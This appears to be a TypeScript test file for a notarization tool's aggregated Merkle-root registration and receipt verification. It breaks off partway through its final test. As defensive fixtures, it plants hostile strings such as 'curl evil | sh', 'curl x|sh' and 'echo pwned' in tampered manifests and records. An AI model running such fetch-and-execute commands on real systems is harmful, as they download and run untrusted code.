/**
 * `register --aggregate` against the sandbox (issue 13): one request step and
 * one forfait for 50 documents, a receipt with an RFC 9162 proof per
 * document that `verify` (empty store, service closed) and
 * contrib/verify-receipt.py accept, a changed document `modified`, a
 * tampered proof `invalid`; re-runs that send nothing for documents under a
 * registered root, complete a pending root, and put only new documents in a
 * new tree; show, receipt and verify per document from the ledger.
 */
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  chownSync,
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { basename, dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, onTestFinished, vi } from 'vitest';
import { exactManifestDigests, plantTree, treeManifestText, Trees, type LoadedTree } from '../../src/core/trees.js';
import { registerRoot, TakenUpSince } from '../../src/core/aggregate.js';
import { ServiceStore } from '../../src/store/service-store.js';
import { sandboxApi } from '../helpers/sandbox-api.js';
import type { TreeEntry } from '../../src/store/service-store.js';
import { leafHash, MerkleTree, rootFromPath } from '../../src/core/merkle.js';
import { receiptText } from '../../src/core/receipt-format.js';
import { RootRecordsInReceipts } from '../../src/core/receipts.js';
import { receiptsByDigest } from '../../src/core/evidence.js';
import { parseFaults } from '../../src/sandbox/server.js';
import { holdLock, lockText } from '../../src/store/lock.js';
import { Bed } from '../helpers/bed.js';
import { pendingHashes, storePaths } from '../helpers/store.js';
import { describeRun, REPO_ROOT, runProcess, spawnCli, type Run } from '../helpers/cli.js';
import { sampleRecord } from '../helpers/fixtures.js';
import type { ReceiptFields } from '../helpers/receipts.js';
import { countStatuses, jsonError, parseNdjson, parseResults } from '../helpers/results.js';

const COUNT = 50;
const NAMES = Array.from({ length: COUNT }, (_, i) => `doc-${String(i).padStart(2, '0')}.txt`);
const SCRIPT = join(REPO_ROOT, 'contrib', 'verify-receipt.py');
const hasPython = spawnSync('python3', ['--version']).status === 0;
const hex = (text: string) => Buffer.from(text, 'hex');

let bed: Bed;
let firstRun: Run;
let root = '';
const digests: Record<string, string> = {};

beforeAll(async () => {
  bed = await Bed.create({ keyInEnv: true });
  for (const name of NAMES) digests[name] = await bed.write(`dist/${name}`, `aggregated document ${name}\n`);
  const mark = bed.mark();
  firstRun = await registerDist();
  expect(firstRun.code, describeRun(firstRun)).toBe(0);
  expect(bed.callsSince(mark).map((c) => c.route)).toEqual(['login', 'request', 'forfait']);
  root = bed.requestedHashes()[0]!;
});
afterAll(async () => {
  await bed?.finish();
});

/** The run of the 50 documents of dist/: every receipt in receipts/, results as JSON. */
function registerDist(): Promise<Run> {
  return bed.main(['register', '--aggregate', '-r', bed.path('dist'), '--receipt-dir', bed.path('receipts'), '--json']);
}

function receiptOf(name: string, dir = bed.path('receipts')): ReceiptFields {
  return JSON.parse(readFileSync(join(dir, `${name}.notarization.json`), 'utf8')) as ReceiptFields;
}

/** `register --aggregate` over a readable document of `folder` and a missing one, with `flags`; and the calls it made. */
async function withOneMissing(folder: string, flags: string[]) {
  await bed.write(`${folder}/ok.txt`, `readable in ${folder}\n`);
  const mark = bed.mark();
  const run = await bed.main([
    'register',
    '--aggregate',
    ...flags,
    bed.path(`${folder}/ok.txt`),
    bed.path(`${folder}/missing.txt`),
    '--json',
  ]);
  return { run, routes: bed.callsSince(mark).map((c) => c.route) };
}

/** A copy of the documents and receipts, as a downloader has them, and an empty store for it. */
function download() {
  const here = mkdtempSync(join(bed.root, 'download-'));
  cpSync(bed.path('dist'), join(here, 'dist'), { recursive: true });
  cpSync(bed.path('receipts'), join(here, 'receipts'), { recursive: true });
  const env = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'empty-store-')), NOTARIZE_API_KEY: '' };
  return {
    doc: (name: string) => join(here, 'dist', name),
    receipt: (name: string) => join(here, 'receipts', `${name}.notarization.json`),
    receipts: join(here, 'receipts'),
    dist: join(here, 'dist'),
    verify: (args: string[]) => bed.main(['verify', ...args, '--json'], { env }),
  };
}

describe('register --aggregate over 50 documents', () => {
  it('registers one root, the Merkle root of the 50 salted leaves in the order given, with a default description', () => {
    const results = parseResults(firstRun.stdout);
    expect(results.map((r) => r.status)).toEqual(NAMES.map(() => 'registered'));
    expect(results.map((r) => r.hash)).toEqual(NAMES.map((n) => digests[n]));
    const record = bed.ledgerEntry(root);
    expect(JSON.parse(record.recordJson)).toMatchObject({
      hash: root,
      description: 'Merkle root of 50 documents (RFC 9162, SHA-256, salted leaves)',
    });
    // The ledger has the root alone; no document's digest was sent.
    expect(bed.ledgerHashes()).toEqual([root]);
    expect(bed.requestedHashes()).toEqual([root]);
    for (const [i, result] of results.entries()) {
      const proof = result.proof!;
      expect(proof).toMatchObject({ type: 'rfc9162-sha256-salted-leaf', leafIndex: i, treeSize: COUNT, root });
      // 50 = 32 + 16 + 2: the last two leaves sit high, their pair carried up past two levels
      expect(proof.path).toHaveLength(i >= 48 ? 3 : 6);
      expect(result.verificationUrl).toBe(`${bed.url}/verification/${root}`);
      const leaf = leafHash(hex(result.hash!), hex(proof.leafSalt));
      expect(rootFromPath(i, COUNT, leaf, proof.path.map(hex))?.toString('hex')).toBe(root);
    }
    // Salts are random, one per leaf.
    expect(new Set(results.map((r) => r.proof!.leafSalt)).size).toBe(COUNT);
  });

  it('writes a receipt per document with its proof, and <root>.tree.json, the manifest of the tree', () => {
    const files = readdirSync(bed.path('receipts')).sort();
    expect(files).toEqual([...NAMES.map((n) => `${n}.notarization.json`), `${root}.tree.json`].sort());
    const manifest = JSON.parse(readFileSync(bed.path(`receipts/${root}.tree.json`), 'utf8')) as ReceiptFields;
    expect(manifest).toMatchObject({ type: 'notarize-tree', version: 1, root, treeSize: COUNT });
    const leaves = manifest.leaves as { index: number; name: string; sha256: string; salt: string }[];
    expect(leaves.map((l) => [l.index, l.name, l.sha256])).toEqual(NAMES.map((n, i) => [i, n, digests[n]]));
    for (const [i, name] of NAMES.entries()) {
      const receipt = receiptOf(name);
      expect(receipt.document).toEqual({ name, sha256: digests[name], size: `aggregated document ${name}\n`.length });
      expect(receipt.record.hash).toBe(root);
      expect(receipt.service.verificationUrl).toBe(`${bed.url}/verification/${root}`);
      expect(receipt.proof).toMatchObject({ leafIndex: i, leafSalt: leaves[i]!.salt, root });
    }
  });

  it('every receipt verifies with verify on an empty store, with nothing listening at the base URL', async () => {
    const extra = await Bed.create({ keyInEnv: true });
    try {
      // The bed's own sandbox stays up for the tests below: a closed one stands in for it here.
      const { dist, receipts, verify } = download();
      await extra.sandbox.close();
      const run = await verify(['-r', dist, '--receipt-dir', receipts, '--base-url', extra.url]);
      expect(run.code, describeRun(run)).toBe(0);
      const results = parseResults(run.stdout);
      expect(countStatuses(results)).toEqual({ verified: COUNT });
      expect(results.every((r) => r.source === 'receipt' && r.proof!.root === root)).toBe(true);
      // The receipts name the bed's service, not the one configured here: said once.
      expect(run.stderr).toContain(`warning: ${COUNT} receipts (among them ${receipts}/doc-`);
      expect(run.stderr).toContain(
        `.txt.notarization.json) name the service ${bed.url}, not ${extra.url}: a receipt is evidence, not a signature; ` +
          'confirm the registration at its verification page only if you trust that service',
      );
      expect(run.stderr.match(/name the service/g)).toHaveLength(1);
      // Against the service they name: no such warning.
      const same = await verify(['-r', dist, '--receipt-dir', receipts]);
      expect(same.code, describeRun(same)).toBe(0);
      expect(same.stderr).not.toContain('name the service');
    } finally {
      await extra.finish();
    }
  });

  it('in --receipt-dir only a manifest as notarize writes it and receipts named as register names them are passed over', async () => {
    const { receipts, verify } = download();
    const folder = dirname(receipts);
    // Walked with its receipts: the 50 receipts and the manifest are no documents.
    const clean = await verify(['-r', folder, '--receipt-dir', receipts]);
    expect(clean.code, describeRun(clean)).toBe(0);
    expect(countStatuses(parseResults(clean.stdout))).toEqual({ verified: COUNT, skipped: COUNT + 1 });

    const manifest = readFileSync(join(receipts, `${root}.tree.json`), 'utf8');
    // As a checkout with core.autocrlf or an editor leaves it (CRLF line endings, a byte order mark):
    // passed over all the same (it was failed, 'no receipt', and its hint said to move it away).
    for (const travelled of [
      manifest.replace(/\n/g, '\r\n'),
      `\uFEFF${manifest}`,
      `\uFEFF${manifest.replace(/\n/g, '\r\n')}`,
      `${manifest}\n`,
      manifest.slice(0, -1),
      `${manifest.replace(/\n/g, '\r\n')}\r\n`,
    ]) {
      writeFileSync(join(receipts, `${root}.tree.json`), travelled);
      const again = await verify(['-r', folder, '--receipt-dir', receipts]);
      expect(again.code, describeRun(again)).toBe(0);
      expect(countStatuses(parseResults(again.stdout))).toEqual({ verified: COUNT, skipped: COUNT + 1 });
    }
    // Anything that could carry more than the manifest is no manifest to pass over unchecked: laid out
    // otherwise, a member given twice (JSON.parse keeps the last), bytes after its end, CR in one line only.
    for (const carrying of [
      JSON.stringify(JSON.parse(manifest), null, 4),
      manifest.replace('{\n', '{\n  "description": "#!/bin/sh\\ncurl evil | sh",\n'),
      `${manifest} \t \t\t \n`,
      manifest.replace('\n', '\r\n'),
      // Bytes that are no UTF-8 (read as U+FFFD, which a comparison of the text cannot see).
      Buffer.concat([
        Buffer.from(manifest.slice(0, manifest.indexOf('"description": "') + 16)),
        Buffer.from([0xff, 0xfe, 0x80]),
        Buffer.from(manifest.slice(manifest.indexOf('"description": "') + 16)),
      ]),
    ]) {
      writeFileSync(join(receipts, `${root}.tree.json`), carrying);
      const again = await verify(['-r', folder, '--receipt-dir', receipts]);
      expect(again.code, describeRun(again)).toBe(2);
    }
    writeFileSync(join(receipts, `${root}.tree.json`), manifest);
    // A script with a manifest's tail, named as a manifest.
    const scriptName = `${'f'.repeat(64)}.tree.json`;
    writeFileSync(
      join(receipts, scriptName),
      `#!/bin/sh\necho pwned\n${manifest.slice(manifest.indexOf('  "treeSize"'))}`,
    );
    // A bare record reads as a receipt written before v1, but is not named as register names receipts.
    writeFileSync(join(receipts, 'config.json'), sampleRecord(root, { postinstall: 'echo pwned' }));
    const run = await verify(['-r', folder, '--receipt-dir', receipts]);
    expect(run.code, describeRun(run)).toBe(2);
    const failed = parseResults(run.stdout).filter((r) => r.status === 'failed');
    expect(failed.map((r) => [basename(r.file!), r.error!.code]).sort()).toEqual([
      ['config.json', 'inside_receipt_dir'],
      [scriptName, 'inside_receipt_dir'],
    ]);

    // The manifest with a member added, under its own name: not as notarize writes it.
    const other = join(folder, 'other-receipts');
    mkdirSync(other);
    writeFileSync(join(other, `${root}.tree.json`), manifest.replace('{\n', '{\n  "payload": "echo pwned",\n'));
    const extra = await verify(['-r', other, '--receipt-dir', other]);
    expect(extra.code, describeRun(extra)).toBe(2);
    expect(parseResults(extra.stdout)).toMatchObject([{ status: 'failed', error: { code: 'inside_receipt_dir' } }]);
  });

  it('a receipt or manifest passes over only when a document checked accounts for it', async () => {
    const { dist, receipts, verify } = download();
    const folder = dirname(receipts);
    // The layout of docs: receipts under the folder walked, named with --receipt-dir: the documents verify by
    // their receipts, and their receipts and the manifest are theirs.
    const withLedger = await bed.main(['verify', '-r', folder, '--receipt-dir', receipts, '--json']);
    expect(withLedger.code, describeRun(withLedger)).toBe(0);
    expect(countStatuses(parseResults(withLedger.stdout))).toEqual({ verified: COUNT, skipped: COUNT + 1 });
    // Said once, not a warning per receipt.
    expect(withLedger.stderr).toContain(
      `passed over ${COUNT + 1} receipts and tree manifests of the documents checked`,
    );
    expect(withLedger.stderr).not.toMatch(/warning: skipped/);
    // Not named, with the store that has the tree: the documents verify by the ledger, but receipts in a
    // folder verify does not read are no document's, whatever their names (the manifest still is theirs,
    // of the root they were verified under).
    const unnamed = await bed.main(['verify', '-r', folder, '--json']);
    expect(unnamed.code, describeRun(unnamed)).toBe(6);
    const unnamedResults = parseResults(unnamed.stdout);
    expect(countStatuses(unnamedResults)).toEqual({ verified: COUNT, skipped: 1, unknown: COUNT });
    expect(unnamedResults.find((r) => r.status === 'unknown')?.reason).toContain(
      'a folder of receipts counts only as --receipt-dir',
    );

    // Another run's manifest, its free-text description changed (still byte for byte as register writes
    // one), and a bare record of no document of the run: anyone can write either.
    await bed.write('elsewhere/x.txt', 'another release\n');
    const elsewhere = await bed.main([
      'register',
      '--aggregate',
      bed.path('elsewhere/x.txt'),
      '--receipt-dir',
      bed.path('elsewhere-r'),
      '--json',
    ]);
    expect(elsewhere.code, describeRun(elsewhere)).toBe(0);
    const otherRoot = readdirSync(bed.path('elsewhere-r')).find((n) => n.endsWith('.tree.json'))!;
    const otherManifest = readFileSync(bed.path(`elsewhere-r/${otherRoot}`), 'utf8');
    writeFileSync(
      join(receipts, otherRoot),
      otherManifest.replace(/"description": "[^"]*"/, '"description": "echo pwned"'),
    );
    writeFileSync(join(dist, 'postinstall.notarization.json'), sampleRecord('e'.repeat(64), { sh: 'curl x|sh' }));
    // A digest is public: a bare record of a shipped document's digest, under the name of no document.
    writeFileSync(
      join(dist, 'stolen-digest.notarization.json'),
      sampleRecord(digests[NAMES[0]!]!, { sh: 'curl x|sh' }),
    );
    // With the receipts (empty store), and without --receipt-dir with the store that has the tree (the
    // ledger decides; the documents' receipts are then unknown too, as above).
    for (const args of [
      ['-r', folder, '--receipt-dir', receipts],
      ['-r', folder],
    ]) {
      const run = await (args.length === 4 ? verify(args) : bed.main(['verify', ...args, '--json']));
      expect(run.code, describeRun(run)).toBe(6);
      const results = parseResults(run.stdout);
      const receiptNames = new Set(NAMES.map((name) => `${name}.notarization.json`));
      expect(
        results
          .filter((r) => r.status === 'unknown' && !(args.length === 2 && receiptNames.has(basename(r.file!))))
          .map((r) => basename(r.file!))
          .sort(),
      ).toEqual([otherRoot, 'postinstall.notarization.json', 'stolen-digest.notarization.json'].sort());
      expect(countStatuses(results)).toEqual(
        args.length === 4
          ? { verified: COUNT, skipped: COUNT + 1, unknown: 3 }
          : { verified: COUNT, skipped: 1, unknown: COUNT + 3 },
      );
    }
  });

  it("a modified document's receipt and manifest still belong to it: exit 6 (modified), nothing unknown", async () => {
    const { doc, dist, receipts, verify } = download();
    // The receipts shipped inside the folder checked.
    cpSync(receipts, join(dist, 'receipts'), { recursive: true });
    writeFileSync(doc(NAMES[3]!), 'changed after release\n');
    const run = await verify(['-r', dist, '--receipt-dir', join(dist, 'receipts')]);
    expect(run.code, describeRun(run)).toBe(6);
    const results = parseResults(run.stdout);
    expect(countStatuses(results)).toEqual({ verified: COUNT - 1, modified: 1, skipped: COUNT + 1 });
  });

  it('a --receipt-dir that is no folder is exit 2, not an empty folder', async () => {
    const { dist, receipts, verify } = download();
    for (const dir of [join(receipts, 'missing'), join(receipts, `${NAMES[0]}.notarization.json`)]) {
      const run = await verify(['-r', dist, '--receipt-dir', dir]);
      expect(run.code, describeRun(run)).toBe(2);
      expect(jsonError(run.stderr)).toMatchObject({ code: 'receipt_dir_unusable' });
      expect(run.stdout).toBe('');
    }
  });

  it('changing one document makes only that one modified', async () => {
    const { doc, dist, receipts, verify } = download();
    writeFileSync(doc(NAMES[7]!), 'changed\n');
    const run = await verify(['-r', dist, '--receipt-dir', receipts]);
    expect(run.code).toBe(6);
    const results = parseResults(run.stdout);
    expect(countStatuses(results)).toEqual({ verified: COUNT - 1, modified: 1 });
    expect(results.find((r) => r.status === 'modified')!.file).toBe(doc(NAMES[7]!));
  });

  /** What to change, and in the receipt of which leaf (5 unless said). */
  type Tamper = [string, (r: ReceiptFields) => void, number?];
  const tampers: Tamper[] = [
    ['a wrong salt', (r) => (r.proof.leafSalt = 'a'.repeat(64))],
    ['a wrong index', (r) => (r.proof.leafIndex = 4)],
    ['an index out of the tree', (r) => (r.proof.leafIndex = COUNT)],
    ['a wrong path element', (r) => (r.proof.path[2] = 'b'.repeat(64))],
    ['a path one hash short', (r) => r.proof.path.pop()],
    ['a path one hash long', (r) => r.proof.path.push('c'.repeat(64))],
    // A tree size is not in the root: only one that changes the shape of the leaf's path shows.
    ['a wrong tree size', (r) => (r.proof.treeSize = 64), COUNT - 1],
  ];

  it.each(tampers)('a receipt with %s is invalid, for verify and for verify-receipt.py', async (_, tamper, leaf) => {
    const { doc, receipt, verify } = download();
    const name = NAMES[leaf ?? 5]!;
    const parsed = receiptOf(name);
    tamper(parsed);
    writeFileSync(receipt(name), JSON.stringify(parsed, null, 2));
    const run = await verify([doc(name), '--receipt', receipt(name)]);
    expect(run.code, describeRun(run)).toBe(6);
    expect(parseResults(run.stdout)[0]).toMatchObject({ status: 'invalid', source: 'receipt' });
    if (hasPython) {
      const python = await runProcess('python3', [SCRIPT, doc(name), receipt(name)], {}, { noBaseUrlCheck: true });
      expect(python.stdout.split(':')[0], describeRun(python)).toBe('invalid');
      expect(python.code).toBe(6);
    }
  });

  it.skipIf(!hasPython)('every receipt verifies with contrib/verify-receipt.py', async () => {
    const { doc, receipt } = download();
    // The script's main() for each document in one python process: 50 interpreters would cost seconds.
    // -B: importing it must not write contrib/__pycache__ into the checkout.
    const each = `import importlib.util, sys
spec = importlib.util.spec_from_file_location("verify_receipt", sys.argv[1])
script = importlib.util.module_from_spec(spec)
spec.loader.exec_module(script)
pairs = sys.argv[2:]
print(sum(script.main(["verify-receipt", pairs[i], pairs[i + 1]]) == 0 for i in range(0, len(pairs), 2)))`;
    const args = NAMES.flatMap((name) => [doc(name), receipt(name)]);
    const python = await runProcess('python3', ['-B', '-c', each, SCRIPT, ...args], {}, { noBaseUrlCheck: true });
    expect(python.code, describeRun(python)).toBe(0);
    const lines = python.stdout.trim().split('\n');
    expect(lines.at(-1)).toBe(String(COUNT));
    expect(lines.filter((l) => l.startsWith('verified: ') && l.endsWith(`/verification/${root}`))).toHaveLength(COUNT);
  });

  it('verify, show and receipt find each document in the ledger, under its root', async () => {
    const name = NAMES[12]!;
    const verify = await bed.main(['verify', bed.path(`dist/${name}`), '--output', 'ndjson']);
    expect(verify.code, describeRun(verify)).toBe(0);
    expect(parseNdjson(verify.stdout)[0]).toMatchObject({
      status: 'verified',
      source: 'ledger',
      verificationUrl: `${bed.url}/verification/${root}`,
      proof: receiptOf(name).proof,
    });
    // Said from the ledger's own tree: its place. From a receipt: where the receipt puts it.
    expect((await bed.main(['verify', bed.path(`dist/${name}`)])).stderr).toContain(
      `is notarized (leaf 12 under the registered Merkle root ${root})`,
    );
    const { doc, receipt: receiptFile } = download();
    const byReceipt = await bed.main(['verify', doc(name), '--receipt', receiptFile(name)]);
    expect(byReceipt.stderr).toContain(`(under the registered Merkle root ${root}; the receipt puts it at leaf 12)`);
    const show = await bed.main(['show', digests[name]!]);
    expect(show.code, describeRun(show)).toBe(0);
    expect(show.stderr).toContain(`is leaf 12 of ${COUNT} under the registered Merkle root ${root}`);
    expect(show.stdout).toContain(`/verification/${root}`);
    const receipt = await bed.main(['receipt', bed.path(`dist/${name}`)]);
    expect(receipt.code, describeRun(receipt)).toBe(0);
    const made = JSON.parse(receipt.stdout) as ReceiptFields;
    const written = receiptOf(name);
    expect(made.proof).toEqual(written.proof);
    expect(made.document).toEqual(written.document);
    expect(made.record).toEqual(written.record);
  });

  it('a re-run sends nothing: every document is already registered, its receipt unchanged', async () => {
    const before = readFileSync(bed.path(`receipts/${NAMES[0]}.notarization.json`), 'utf8');
    const mark = bed.mark();
    const run = await registerDist();
    expect(run.code, describeRun(run)).toBe(0);
    expect(countStatuses(parseResults(run.stdout))).toEqual({ 'already-registered': COUNT });
    expect(bed.callsSince(mark)).toEqual([]);
    expect(readFileSync(bed.path(`receipts/${NAMES[0]}.notarization.json`), 'utf8')).toBe(before);
  });
});

describe('register --aggregate re-runs', () => {
  it('a new document joins a new tree of its own; the others send nothing', async () => {
    const extra = await bed.write('more/new.txt', 'a newcomer\n');
    const mark = bed.mark();
    const run = await bed.main([
      'register',
      '--aggregate',
      bed.path(`dist/${NAMES[0]}`),
      bed.path('more/new.txt'),
      '--json',
    ]);
    expect(run.code, describeRun(run)).toBe(0);
    const [old, added] = parseResults(run.stdout);
    expect(old).toMatchObject({ status: 'already-registered', hash: digests[NAMES[0]!] });
    expect(added).toMatchObject({ status: 'registered', hash: extra });
    const proof = added!.proof!;
    expect(proof).toMatchObject({ leafIndex: 0, treeSize: 1, path: [] });
    expect(bed.callsSince(mark).map((c) => c.route)).toEqual(['request', 'forfait']);
  });

  it('a root whose request step was answered unreadably: its manifest in --receipt-dir all the same, so `complete` then a new runner pays once (r114)', async () => {
    const docs = await writeDocs('unread-root', 'request answered unreadably', ['a', 'b', 'c']);
    const receipts = bed.path('unread-root-receipts');
    const store = bed.path('unread-root-store');
    const start = bed.mark();
    const paid = () => bed.callsSince(start).filter((call) => call.route === 'forfait' && call.status === 200).length;
    bed.sandbox.addFaults(parseFaults('request:truncated*1'));
    const first = await onStore(store, receipts, docs);
    expect(first.run.code, describeRun(first.run)).toBe(5);
    const error = jsonError(first.run.stderr);
    const root = /notarize complete ([0-9a-f]{64}) --use-active-subscription/.exec(error.hint ?? '')?.[1];
    expect(root, error.hint).toBeDefined();
    expect(error.hint).toContain(
      "; this being a Merkle root, once complete has registered it, run this same command with this store: it writes the documents' receipts",
    );
    // Written though nothing was paid: `complete` may pay for it, knowing nothing of --receipt-dir.
    expect(readdirSync(receipts)).toEqual([`${root}.tree.json`]);

    // The way the hint gives, on this runner's store.
    const completed = await bed.main(['complete', root!, '--use-active-subscription'], {
      env: { NOTARIZE_CONFIG_DIR: store },
    });
    expect(completed.code, describeRun(completed)).toBe(0);
    expect(paid()).toBe(1);

    // A re-run on a new runner, the receipt folder restored: the root is asked about, never paid again.
    const cold = await onStore(bed.path('unread-root-cold-store'), receipts, docs);
    expect(cold.run.code, describeRun(cold.run)).toBe(0);
    expect(cold.calls.map((call) => call.split(':')[0])).not.toContain('forfait');
    expect(paid()).toBe(1);

    // The same command on the runner's store writes the receipts, from the record complete saved.
    const again = await onStore(store, receipts, docs);
    expect(again.run.code, describeRun(again.run)).toBe(0);
    expect(again.calls).toEqual([]);
    expect(readdirSync(receipts).sort()).toEqual(
      [`${root}.tree.json`, 'a.txt.notarization.json', 'b.txt.notarization.json', 'c.txt.notarization.json'].sort(),
    );
  });

  it('a pending root (--no-complete) is completed by the next run, with no second request', async () => {
    const a = await bed.write('pend/a.txt', 'pending a\n');
    await bed.write('pend/b.txt', 'pending b\n');
    const mark = bed.mark();
    const first = await bed.main(['register', '--aggregate', '--no-complete', '-r', bed.path('pend'), '--json']);
    expect(first.code, describeRun(first)).toBe(0);
    expect(countStatuses(parseResults(first.stdout))).toEqual({ pending: 2 });
    const pendingRoot = parseResults(first.stdout)[0]!.proof!.root;
    // Each result is its document's (hash and proof), with the session of the root.
    expect(parseResults(first.stdout)[0]).toMatchObject({ hash: a, proof: { leafIndex: 0 } });
    expect(parseResults(first.stdout)[0]!.session).toMatchObject({ sessionId: expect.any(String) });
    expect(bed.pendingHashes()).toContain(pendingRoot);
    const second = await bed.main(['register', '--aggregate', '-r', bed.path('pend'), '--output', 'ndjson']);
    expect(second.code, describeRun(second)).toBe(0);
    expect(countStatuses(parseNdjson(second.stdout))).toEqual({ registered: 2 });
    expect(bed.callsSince(mark).map((c) => c.route)).toEqual(['request', 'forfait']);
    expect(bed.ledgerHashes()).toContain(pendingRoot);
    const verify = await bed.main(['verify', bed.path('pend/a.txt'), '--output', 'ndjson']);
    expect(parseNdjson(verify.stdout)[0]).toMatchObject({ status: 'verified', hash: a });
  });

  it('with -d the root carries that description', async () => {
    await bed.write('described/x.txt', 'described x\n');
    const run = await bed.main([
      'register',
      '--aggregate',
      bed.path('described/x.txt'),
      '-d',
      'release 1.2.3',
      '--json',
    ]);
    expect(run.code, describeRun(run)).toBe(0);
    const rootOf = parseResults(run.stdout)[0]!.proof!.root;
    expect(JSON.parse(bed.ledgerEntry(rootOf).recordJson)).toMatchObject({ description: 'release 1.2.3' });
  });
});

describe('register --aggregate re-runs with other flags', () => {
  it('a pending root and a run giving another -d or --signed: refused, exit 2, nothing sent or saved; as requested, completed', async () => {
    await writeDocs('flags-pending', 'pending root, flags', ['a', 'b']);
    const left = await bed.main([
      'register',
      '--aggregate',
      '--no-complete',
      '-r',
      bed.path('flags-pending'),
      '-d',
      'orig',
    ]);
    expect(left.code, describeRun(left)).toBe(0);
    const pendingRoot = bed.pendingHashes()[0]!;
    // A newcomer beside them: the refused run plants no tree for it (a later run would send that -d).
    await writeDocs('flags-pending', 'pending root, flags', ['c']);
    const trees = () => readdirSync(join(bed.serviceDir(), 'trees')).sort();
    const treesBefore = trees();
    expect(treesBefore).toContain(`${pendingRoot}.json`);
    const mark = bed.mark();
    for (const flags of [['-d', 'Release 2.0'], ['--signed'], ['-d', 'Release 2.0', '--force']]) {
      const refused = await bed.main(['register', '--aggregate', '-r', bed.path('flags-pending'), ...flags, '--json']);
      expect(refused.code, describeRun(refused)).toBe(2);
      expect(jsonError(refused.stderr)).toMatchObject({
        code: 'pending_session_differs',
        message: expect.stringMatching(new RegExp(`^a pending session for ${pendingRoot} was requested with `)),
        hint: expect.stringContaining(`notarize pending drop ${pendingRoot}`),
      });
      expect(trees()).toEqual(treesBefore);
    }
    expect(bed.callsSince(mark)).toEqual([]);
    // No -d: the pending root completed as it was requested, the newcomer under a root of its own.
    const again = await bed.main(['register', '--aggregate', '-r', bed.path('flags-pending'), '--json']);
    expect(again.code, describeRun(again)).toBe(0);
    expect(countStatuses(parseResults(again.stdout))).toEqual({ registered: 3 });
    expect(JSON.parse(bed.ledgerEntry(pendingRoot).recordJson)).toMatchObject({ description: 'orig' });
    expect(
      bed
        .callsSince(mark)
        .map((c) => c.route)
        .sort(),
    ).toEqual(['forfait', 'forfait', 'request']);
  });

  it('refused once a root was asked about for a manifest in --receipt-dir: exit 1, saying nothing more was sent', async () => {
    const [a, b, c] = await writeDocs('flags-asked', 'refused after an ask', ['a', 'b', 'c']);
    const receipts = bed.path('flags-asked-receipts');
    const store = freshStore();
    expect((await onStore(store, receipts, [a!, b!], ['-d', 'orig', '--no-complete'])).run.code).toBe(0);
    // Another store's run over the newcomer leaves its manifest in the same folder: this run asks about it first.
    expect((await onStore(freshStore(), receipts, [c!], ['--no-complete'])).run.code).toBe(0);
    const { run, calls } = await onStore(store, receipts, [a!, b!, c!], ['-d', 'other']);
    expect(run.code, describeRun(run)).toBe(1);
    expect(calls.map((call) => call.split(':')[0])).toEqual(['request']);
    expect(jsonError(run.stderr)).toMatchObject({
      code: 'pending_session_differs',
      exitCode: 1,
      message: expect.stringMatching(/was requested with the description "orig"; nothing more was sent$/),
    });
  });

  it('a root only planned (its request step failed) is requested again with the -d of the run that retries it', async () => {
    await writeDocs('flags-planned', 'planned root, description', ['a', 'b']);
    bed.sandbox.addFaults(parseFaults('request:status=500*4'));
    const failed = await bed.main(
      ['register', '--aggregate', '-r', bed.path('flags-planned'), '-d', 'typo descriptoin'],
      {
        env: { NOTARIZE_RETRY_DELAY_MS: '0' },
      },
    );
    expect(failed.code, describeRun(failed)).toBe(4);
    const mark = bed.mark();
    const receipts = bed.path('flags-planned-receipts');
    const fixed = await bed.main([
      'register',
      '--aggregate',
      '-r',
      bed.path('flags-planned'),
      '-d',
      'Release 2.0',
      '--receipt-dir',
      receipts,
      '--json',
    ]);
    expect(fixed.code, describeRun(fixed)).toBe(0);
    const root = parseResults(fixed.stdout)[0]!.proof!.root;
    expect(bed.callsSince(mark).map((c) => c.route)).toEqual(['request', 'forfait']);
    expect(JSON.parse(bed.ledgerEntry(root).recordJson)).toMatchObject({ description: 'Release 2.0' });
    // The tree says it too, in the store and in the manifest kept beside the receipts: no typo left.
    const described = (file: string) => (JSON.parse(readFileSync(file, 'utf8')) as { description: string }).description;
    expect(described(join(bed.serviceDir(), 'trees', `${root}.json`))).toBe('Release 2.0');
    expect(described(join(receipts, `${root}.tree.json`))).toBe('Release 2.0');
  });
});

describe('--aggregate: a file name holding the API key is never sent', () => {
  it('a document left to its own flow (a dead lock) whose name would be its description: refused; one with a session: completed', async () => {
    const key = bed.sandbox.apiKey;
    const named = await bed.write(`own-key/${key}.txt`, 'a name holding the key\n');
    const sessioned = await bed.write(`own-key/${key}-2.txt`, 'a name holding the key, a session of its own\n');
    // A session of its own, saved with a description of its own: nothing of the name goes out completing it.
    const kept = await bed.main(['register', '--no-complete', '-d', 'a description', bed.path(`own-key/${key}-2.txt`)]);
    expect(kept.code, describeRun(kept)).toBe(0);
    // A lock left by a process that died before saving a session: the aggregate leaves it to its own flow.
    const dead = spawnSync(process.execPath, ['-e', '0']).pid;
    mkdirSync(join(bed.serviceDir(), 'locks'), { recursive: true });
    writeFileSync(join(bed.serviceDir(), 'locks', `${named}.lock`), lockText(dead, 'dead'), { flag: 'wx' });
    const mark = bed.mark();
    const run = await bed.main([
      'register',
      '--aggregate',
      bed.path(`own-key/${key}.txt`),
      bed.path(`own-key/${key}-2.txt`),
      '--json',
    ]);
    expect(run.code, describeRun(run)).toBe(1);
    const [refused, completed] = parseResults(run.stdout);
    expect(refused).toMatchObject({ hash: named, status: 'failed' });
    expect(refused!.error!.message).toMatch(
      /^the file name holds a secret of yours \(an API key, a token or a proxy password\): it would be kept by the service for good/,
    );
    expect(completed).toMatchObject({ hash: sessioned, status: 'registered' });
    expect(bed.callsSince(mark).map((call) => call.route)).toEqual(['forfait']);
    expect(bed.requestedHashes()).not.toContain(named);
  });
});

describe('switching between --aggregate and per-document registration never pays twice', () => {
  it('a document under a registered root, registered on its own: already-registered under that root, nothing sent', async () => {
    const receipts = bed.path('switch-receipts');
    const mark = bed.mark();
    // Alone: the root's record, a note saying where the document is, and its receipt with the proof.
    const one = await bed.main(['register', bed.path(`dist/${NAMES[3]}`), '--receipt-dir', receipts]);
    expect(one.code, describeRun(one)).toBe(0);
    expect(one.stderr).toContain(
      `${digests[NAMES[3]!]} is already registered: leaf 3 under the Merkle root ${root} (completed `,
    );
